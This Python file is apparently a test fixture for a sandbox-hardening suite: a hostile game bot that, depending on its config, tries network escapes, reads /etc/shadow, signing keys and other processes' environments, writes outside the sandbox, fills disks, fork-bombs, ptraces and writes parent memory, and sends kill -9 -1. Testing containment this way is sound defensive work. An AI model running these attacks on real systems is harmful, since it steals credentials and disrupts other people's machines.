"""A hostile hosted bot of the escape suite (tests/hardening/test_hardening_hosted.py): it
makes one attack, chosen by CONFIG (the test writes its own CONFIG line in at upload:
`tests.support.hosted.hostile.source`), at its first decision (a few from the start), then
plays the first legal action of every decision, if it still can.

It says what each attempt did on stderr, a `REPORT {json}` line each: `attempt` (what it
tried), `ok` (whether it worked) and the details (what it read, the error). It re-executes
itself at once with CONFIG's marker as a last argument and in its environment, so the test
finds every process of it (forks inherit both) in the machine's process table; and it
ignores every signal that can be ignored, so only SIGKILL stops it.
"""

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import sys
import threading
import time

CONFIG = {"attack": "none", "marker": "hostile-bot"}  # the test writes its own in

MIB = 1 << 20
MARKER_VARIABLE = "HOSTILE_MARKER"
IGNORED = ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGXFSZ",
           "SIGXCPU", "SIGALRM", "SIGPIPE", "SIGTSTP", "SIGTTIN", "SIGTTOU")
PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 16, 17, 0x4206
WALL = 0x40000000  # waitpid's __WALL
# a pause at the start and before each answer: even an attack that faults at once lives
# long enough for the test to see its processes
START_PAUSE_S = 1.0
PACE_S = 0.03


# ----- saying what happened -------------------------------------------------------------
def report(attempt, ok, **detail):
    line = json.dumps({"attempt": attempt, "ok": ok, **detail}, default=str)
    with contextlib.suppress(OSError):
        os.write(2, f"REPORT {line}\n".encode())


def describe(error):
    code = getattr(error, "errno", None)
    name = errno.errorcode.get(code, str(code)) if code is not None else type(error).__name__
    return f"{name}: {error}"


# ----- staying alive and findable -------------------------------------------------------
def mark():
    """Run again (same pid, same pipes) with the marker in argv and the environment."""
    marker = CONFIG["marker"]
    if os.environ.get(MARKER_VARIABLE) == marker:
        return
    os.environ[MARKER_VARIABLE] = marker
    try:
        os.execv(sys.executable, [sys.executable, *sys.orig_argv[1:], marker])
    except OSError as error:
        report("mark", False, error=describe(error))


def ignore_signals():
    for name in IGNORED:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(getattr(signal, name), signal.SIG_IGN)


def sleep_forever():
    while True:
        time.sleep(3600)


def spin_forever():
    while True:
        pass


def spin(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


# ----- the protocol -----------------------------------------------------------------------
def answer(message):
    line = json.dumps({"action": message["legal_actions"][0]}).encode() + b"\n"
    while line:
        line = line[os.write(1, line):]


def main():
    mark()
    ignore_signals()
    attack = ATTACKS[CONFIG["attack"]]
    start = STARTS.get(CONFIG["attack"])
    if start is not None:
        start()
    time.sleep(START_PAUSE_S)
    answering, number = True, 0
    for line in sys.stdin:
        message = json.loads(line)
        kind = message.get("type", "decision")
        if kind == "result":
            report("result", True, ranks=message["result"]["ranks"])
            continue
        if kind != "decision":
            continue
        number += 1
        if attack(message, number) is False:
            answering = False
        if answering:
            time.sleep(PACE_S)
            answer(message)
    if CONFIG["attack"] in LIVE_ON_AFTER_EOF:
        sleep_forever()


# ----- the network ----------------------------------------------------------------------
def tcp(attempt, host, port, payload=b""):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect((host, port))
            connection.sendall(payload)
            said = connection.recv(200) if payload else b""
        report(attempt, True, host=host, port=port, said=said.decode(errors="replace"))
    except OSError as error:
        report(attempt, False, host=host, port=port, error=describe(error))


def udp(attempt, host, port):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(f"escaped {CONFIG['marker']}".encode(), (host, port))
        report(attempt, True, host=host, port=port)
    except OSError as error:
        report(attempt, False, host=host, port=port, error=describe(error))


def unix(attempt, address):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect(address)
            connection.sendall(b"escaped\n")
        report(attempt, True, address=address)
    except OSError as error:
        report(attempt, False, address=address, error=describe(error))


def network(message, number):
    if number != 1:
        return None
    try:
        with open("/proc/net/dev") as devices:
            names = [line.split(":")[0].strip() for line in devices.readlines()[2:]]
        report("interfaces", True, names=names)
    except OSError as error:
        report("interfaces", False, error=describe(error))
    key = CONFIG["redis_key"]
    command = f"*3\r\n$3\r\nSET\r\n${len(key)}\r\n{key}\r\n$1\r\n1\r\n".encode()
    tcp("redis", "127.0.0.1", CONFIG["redis_port"], command)
    tcp("tcp-listener", "127.0.0.1", CONFIG["tcp_port"], b"escaped\n")
    tcp("tcp-listener-v6", "::1", CONFIG["tcp_port"], b"escaped\n")
    tcp("tcp-test-net", "192.0.2.1", 80, b"GET / HTTP/1.0\r\n\r\n")
    udp("udp-listener", "127.0.0.1", CONFIG["udp_port"])
    udp("udp-test-net", "192.0.2.1", 53)
    unix("unix-abstract", "\0" + CONFIG["abstract_socket"])
    unix("unix-path", CONFIG["unix_socket"])
    try:
        found = socket.getaddrinfo("example.com", 80, proto=socket.IPPROTO_TCP)
        report("resolve", True, name="example.com", found=[str(row[4]) for row in found])
    except OSError as error:
        report("resolve", False, name="example.com", error=describe(error))
    return None


# ----- secrets --------------------------------------------------------------------------
def read(attempt, path, limit=8192, **detail):
    try:
        with open(path, "rb") as file:
            content = file.read(limit)
        report(attempt, True, path=path, content=content.decode(errors="replace"), **detail)
    except OSError as error:
        report(attempt, False, path=path, error=describe(error), **detail)


def listing(attempt, path):
    try:
        report(attempt, True, path=path, entries=sorted(os.listdir(path))[:200])
    except OSError as error:
        report(attempt, False, path=path, error=describe(error))


def secrets(message, number):
    if number != 1:
        return None
    report("environment", True, environ=dict(os.environ))
    secret = os.environ.get("REFEREE_SECRET")
    report("secret-variable", secret is not None, value=secret)
    read("shadow", "/etc/shadow")
    for path in CONFIG["key_files"]:
        read("signing-key", path)
    read("victim-source", CONFIG["victim_build"] + "/main.py")
    listing("victim-build", CONFIG["victim_build"])
    listing("builds", CONFIG["hosted_dir"] + "/builds")
    for path in CONFIG["probes"]:
        read("host-file", path)
    worker = CONFIG["worker_pid"]
    read("worker-environ", f"/proc/{worker}/environ")
    read("worker-cmdline", f"/proc/{worker}/cmdline")
    listing("worker-descriptors", f"/proc/{worker}/fd")
    for path in CONFIG["key_files"]:
        read("worker-root-key", f"/proc/{worker}/root{path}")
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid != os.getpid():
            read("process-environ", f"/proc/{pid}/environ", pid=pid)
    for descriptor in range(3, 1024):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{descriptor}")
        except OSError as error:
            target = describe(error)
        report("descriptor", True, fd=descriptor, target=target)
    return None


# ----- writes ---------------------------------------------------------------------------
def write(attempt, path):
    try:
        with open(path, "x") as file:
            file.write(f"written by {CONFIG['marker']}\n")
        report(attempt, True, path=path)
    except OSError as error:
        report(attempt, False, path=path, error=describe(error))


def writes(message, number):
    if number != 1:
        return None
    name = CONFIG["written_name"]
    for folder in ("/bot", "/usr", "/etc", "", "/var/tmp", "/proc", "/dev"):
        write(f"sandbox:{folder or '/'}", f"{folder}/{name}")
    write("private-tmp", f"/tmp/{name}")
    write("dev-shm", f"/dev/shm/{name}")
    for path in CONFIG["host_targets"]:
        write("host", path)
    return None


def fill(attempt, folder, cap):
    """Write `folder` full: 1 MiB blocks, a new file whenever one reaches the file size
    limit (EFBIG), until another error (ENOSPC) or `cap` bytes."""
    block = b"\xa5" * MIB
    written, files, error = 0, 0, None
    started = time.monotonic()
    while error is None and written < cap and time.monotonic() - started < 30:
        try:
            descriptor = os.open(f"{folder}/{CONFIG['marker']}-fill-{files}",
                                 os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except OSError as failure:
            error = failure
            break
        files += 1
        try:
            while written < cap:
                try:
                    written += os.write(descriptor, block)
                except OSError as failure:
                    if failure.errno != errno.EFBIG:
                        error = failure
                    break
        finally:
            os.close(descriptor)
    report(attempt, error is None, folder=folder, written=written, files=files,
           error=None if error is None else describe(error),
           errno=None if error is None else errno.errorcode.get(error.errno))


def fill_tmp(message, number):
    if number == 1:
        fill("fill", "/tmp", CONFIG["fill_cap"])
    return None


def fill_shm(message, number):
    if number == 1:
        fill("fill", "/dev/shm", CONFIG["fill_cap"])
    return None


def flood_stderr(message, number):
    """stderr (a pipe the worker reads) written without end, 1 MiB at a time, up to
    `fill_cap` or the first error (the worker closes it at the limit: EPIPE, SIGPIPE being
    ignored by Python); then it plays on (what it would report after that has no way out)."""
    if number == 1:
        block, written = b"e" * MIB, 0
        try:
            while written < CONFIG["fill_cap"]:
                written += os.write(2, block)
        except OSError:
            pass
    return None


# ----- resources ------------------------------------------------------------------------
def fork_bomb(message, number):
    """A bounded tree (8 children a process, 3 levels: 585 processes) that every process
    keeps trying to complete; none answers again."""
    depth, children, refused = 0, 0, 0
    while depth < 3 and children < 8:
        try:
            pid = os.fork()
        except OSError as error:
            refused += 1
            if refused == 1:  # each process says so once
                report("fork-refused", True, depth=depth, children=children,
                       error=describe(error))
            time.sleep(0.001)
            continue
        if pid == 0:
            depth, children, refused = depth + 1, 0, 0
        else:
            children += 1
    if depth == 0:
        report("fork-bomb", True, children=children, refused=refused)
    sleep_forever()


def allocate(message, number):
    """Touched memory, 32 MiB at a time, up to `allocation_cap` (then it waits)."""
    if number != 1:
        return None
    kept, total = [], 0
    while total < CONFIG["allocation_cap"]:
        kept.append(b"\x5a" * (32 * MIB))
        total += 32 * MIB
        if total % (128 * MIB) == 0:
            report("allocated", True, bytes=total)
    report("allocation-cap", True, bytes=total)
    sleep_forever()


def start_spinning():
    for _ in range(3):
        if os.fork() == 0:
            spin_forever()
    threading.Thread(target=spin_forever, daemon=True).start()
    report("spinners", True, processes=3, threads=1)


def spinning(message, number):
    """Spinners from the start; 0.3 s of spinning before each of 12 answers; then a
    decision it spins through without end."""
    if number > 12:
        spin_forever()
    spin(0.3)
    return None


def sleep(message, number):
    sleep_forever()


def close_stdout(message, number):
    if number == 1:
        os.close(1)
        report("stdout-closed", True)
    return False  # no answer, ever; it reads on, and lives on after EOF


def huge_line(message, number):
    """1 GiB without a newline, in 1 MiB writes; then it waits."""
    block, written = b"x" * MIB, 0
    try:
        for _ in range(1024):
            view = memoryview(block)
            while view:
                sent = os.write(1, view)
                written += sent
                view = view[sent:]
        report("huge-line", True, written=written)
    except OSError as error:
        report("huge-line", False, written=written, error=describe(error))
    sleep_forever()


def daemon(keep_pipes):
    """Double-fork a daemon in a session of its own, reparented away from the bot."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    report("daemon", True, pid=os.getpid(), keep_pipes=keep_pipes)
    if not keep_pipes:
        null = os.open("/dev/null", os.O_RDWR)
        for descriptor in (0, 1, 2):
            os.dup2(null, descriptor)
    sleep_forever()


def daemons(message, number):
    """The daemons at the first decision; 0.1 s before each answer, so that they are seen
    running before the match ends."""
    if number == 1:
        daemon(keep_pipes=False)
        daemon(keep_pipes=True)
    time.sleep(0.1)
    return None


# ----- other processes ------------------------------------------------------------------
def trace(attempt, pid, request=PTRACE_ATTACH):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    done = libc.ptrace(request, pid, None, None)
    error = ctypes.get_errno()
    if done == 0:  # let it go again: wait for its stop, then detach
        with contextlib.suppress(OSError):
            os.waitpid(pid, WALL)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    report(attempt, done == 0, pid=pid, error=None if done == 0 else errno.errorcode.get(error))


class IoVec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def read_memory(attempt, pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    buffer = ctypes.create_string_buffer(64)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    remote = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)  # the same address there
    done = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    error = ctypes.get_errno()
    report(attempt, done > 0, pid=pid, error=None if done > 0 else errno.errorcode.get(error))


def open_memory(attempt, pid, flags):
    try:
        descriptor = os.open(f"/proc/{pid}/mem", flags)
        os.close(descriptor)
        report(attempt, True, pid=pid, flags=flags)
    except OSError as error:
        report(attempt, False, pid=pid, flags=flags, error=describe(error))


def parent_memory(attempt, pid):
    """Read 16 bytes of its parent's first mapping through /proc/<pid>/mem, and write the
    same bytes back (a write that changes nothing, but a write)."""
    try:
        with open(f"/proc/{pid}/status") as status:
            fields = dict(line.rstrip("\n").split(":\t", 1) for line in status if ":\t" in line)
        report("parent-status", True, pid=pid, **{name: fields.get(name) for name in (
            "Name", "Uid", "Seccomp", "NoNewPrivs", "CapEff", "CapPrm", "CapBnd")})
        with open(f"/proc/{pid}/maps") as maps:
            first = maps.readline().split()
        address = int(first[0].split("-")[0], 16)
    except (OSError, IndexError, ValueError) as error:
        report(attempt, False, pid=pid, error=describe(error))
        return
    try:
        descriptor = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError as error:
        report(attempt, False, pid=pid, error=describe(error))
        return
    try:
        data = os.pread(descriptor, 16, address)
        report(f"{attempt}-read", len(data) > 0, pid=pid, address=hex(address),
               mapping=" ".join(first[1:]), data=data.hex())
        written = os.pwrite(descriptor, data, address)
        report(f"{attempt}-write", written > 0, pid=pid, address=hex(address), written=written)
    except OSError as error:
        report(attempt, False, pid=pid, error=describe(error))
    finally:
        os.close(descriptor)


def ptrace(message, number):
    if number != 1:
        return None
    parent = os.getppid()
    parent_memory("parent-memory", parent)
    trace("ptrace-parent", parent)
    trace("ptrace-seize-parent", parent, PTRACE_SEIZE)
    trace("ptrace-worker", CONFIG["worker_pid"])
    child = os.fork()
    if child == 0:
        sleep_forever()
    trace("ptrace-child", child)  # the kernel would let it: seccomp must not
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    read_memory("read-parent-memory", parent)
    open_memory("open-parent-memory", parent, os.O_RDONLY)
    open_memory("open-parent-memory", parent, os.O_RDWR)
    for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid not in (os.getpid(), parent):
            trace("ptrace-visible", pid)
            open_memory("open-visible-memory", pid, os.O_RDONLY)
    return None


KILLS = {"sent": 0, "no process": 0, "refused": 0}


def kill_everyone():
    while True:
        try:
            os.kill(-1, signal.SIGKILL)
            KILLS["sent"] += 1
        except ProcessLookupError:
            KILLS["no process"] += 1
        except PermissionError:
            KILLS["refused"] += 1
        time.sleep(0.01)


def start_killing():
    threading.Thread(target=kill_everyone, daemon=True).start()


def kill_all(message, number):
    """kill -9 -1 every 10 ms from the start, and the worker by its pid; it answers each
    decision after 50 ms, so that its match lasts."""
    if number == 1:
        try:
            os.kill(CONFIG["worker_pid"], signal.SIGKILL)
            report("kill-worker", True, pid=CONFIG["worker_pid"])
        except OSError as error:
            report("kill-worker", False, pid=CONFIG["worker_pid"], error=describe(error))
    if number % 10 == 1:
        report("kill-minus-1", KILLS["sent"] > 0, **KILLS)
    time.sleep(0.05)
    return None


ATTACKS = {"network": network, "secrets": secrets, "writes": writes, "fill_tmp": fill_tmp,
           "fill_shm": fill_shm, "flood_stderr": flood_stderr, "fork_bomb": fork_bomb,
           "allocate": allocate, "spin": spinning, "sleep": sleep,
           "close_stdout": close_stdout, "huge_line": huge_line, "daemon": daemons,
           "ptrace": ptrace, "kill_all": kill_all}
STARTS = {"spin": start_spinning, "kill_all": start_killing}
LIVE_ON_AFTER_EOF = ("close_stdout",)

if __name__ == "__main__":
    main()
